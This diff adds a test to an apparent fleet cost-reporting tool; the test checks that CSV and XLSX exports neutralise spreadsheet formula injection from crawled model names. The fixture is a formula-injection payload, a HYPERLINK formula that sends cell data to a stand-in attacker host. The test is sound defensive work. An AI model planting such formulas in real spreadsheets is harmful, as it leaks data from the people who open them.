@@ -161,3 +161,15 @@ def test_page_query_count_does_not_grow_with_the_fleet(client, file_source):
         return len(captured)
 
     assert queries(3) == queries(30)
+
+
+def test_exports_never_turn_crawled_names_into_spreadsheet_formulas(file_source):
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
+    crawl(file_source, at(10, 1), [spec_make("evil", model=evil, accelerator="L4", per_replica=1, replicas=1)], [])
+    r = report()
+    [row] = list(csv.DictReader(io.StringIO(cost_report_csv(r))))
+    assert row["model"] == "'" + evil
+    book = openpyxl.load_workbook(io.BytesIO(cost_report_xlsx(r)))
+    cells = [cell for sheet in book.worksheets for cells in sheet.iter_rows() for cell in cells]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert any(cell.value == "'" + evil for cell in cells)
